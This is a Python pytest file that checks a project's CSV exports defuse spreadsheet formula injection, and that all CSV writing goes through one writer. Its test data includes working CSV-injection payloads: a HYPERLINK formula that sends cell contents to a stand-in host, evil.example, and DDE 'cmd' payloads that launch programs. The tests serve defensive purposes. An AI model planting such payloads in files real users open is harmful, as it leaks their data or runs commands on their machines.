"""Formula injection (OWASP "CSV injection"): every CSV the product writes neutralises formula cells.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a leading single
quote, so a spreadsheet shows it as text; plain numbers (``-5``, ``+3.5``) stay numbers. The reader takes the
quote off again, so an exported file re-imports to the same records.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest

from voproshalych_eval import reports
from voproshalych_eval.config import PROJECT_ROOT
from voproshalych_eval.datasets import store as datasets
from voproshalych_eval.datasets.files import csv_cell, dataframe_csv, read_file, write_csv

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_cells_are_quoted(value: str) -> None:
    assert csv_cell(value) == "'" + value
    rows = _cells(write_csv([{"question": value}], ["question"]))
    assert rows[1][0] == "'" + value


@pytest.mark.parametrize("value", ["-5", "+3.5", "-0.25", "1e-3", "plain", "", "a=b", "'quoted"])
def test_numbers_and_ordinary_text_are_unchanged(value: str) -> None:
    assert csv_cell(value) == value


def test_dataset_export_neutralises_and_round_trips(tmp_path: Path) -> None:
    records = [{"question": v, "ground_truth_answer": "-" + v, "chunk_id": i + 1} for i, v in enumerate(ATTACKS)]
    records.append({"question": "'=already quoted", "ground_truth_answer": "-5", "chunk_id": 99})
    text = datasets.export_csv(records)
    for row in _cells(text)[1:]:
        for cell in row:
            assert not re.match(r"[=+@\t\r]", cell), row
            assert not (cell.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?", cell)), row
    back = read_file("export.csv", data=text.encode()).records
    assert [r["question"] for r in back] == [r["question"] for r in records]
    assert [r["ground_truth_answer"] for r in back] == [r["ground_truth_answer"] for r in records]


def test_run_report_csv_neutralises_item_cells() -> None:
    data = {"run": {"id": 7}, "items": [{"item_key": "q1", "question": ATTACKS[0], "answer": ATTACKS[3]}],
            "metrics": [{"key": "mrr", "value": -0.5, "note": ATTACKS[1]}]}
    items = _cells(reports.to_csv(data, part="items"))
    assert items[1][items[0].index("question")] == "'" + ATTACKS[0]
    assert items[1][items[0].index("answer")] == "'" + ATTACKS[3]
    metrics = _cells(reports.to_csv(data, part="metrics"))
    assert metrics[1][metrics[0].index("note")] == "'" + ATTACKS[1]
    assert metrics[1][metrics[0].index("value")] == "-0.5"


def test_page_download_csv_neutralises() -> None:
    df = pd.DataFrame({"question": [ATTACKS[2], "ok"], "score": [-1.5, 2]})
    rows = _cells(dataframe_csv(df))
    assert rows[1] == ["'" + ATTACKS[2], "-1.5"]


def test_every_csv_writer_goes_through_the_one_writer() -> None:
    """No ``csv.writer`` / ``DictWriter`` / ``DataFrame.to_csv`` outside ``datasets.files`` (package and pages)."""
    offenders = []
    pattern = re.compile(r"csv\.writer\(|DictWriter\(|\.to_csv\(")
    roots = [PROJECT_ROOT / "voproshalych_eval", PROJECT_ROOT / "pages", PROJECT_ROOT / "app.py"]
    for root in roots:
        for path in ([root] if root.is_file() else root.rglob("*.py")):
            if path == PROJECT_ROOT / "voproshalych_eval" / "datasets" / "files.py" or "migrations" in path.parts:
                continue
            for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
                if pattern.search(line):
                    offenders.append(f"{path.relative_to(PROJECT_ROOT)}:{n}: {line.strip()}")
    assert not offenders, offenders
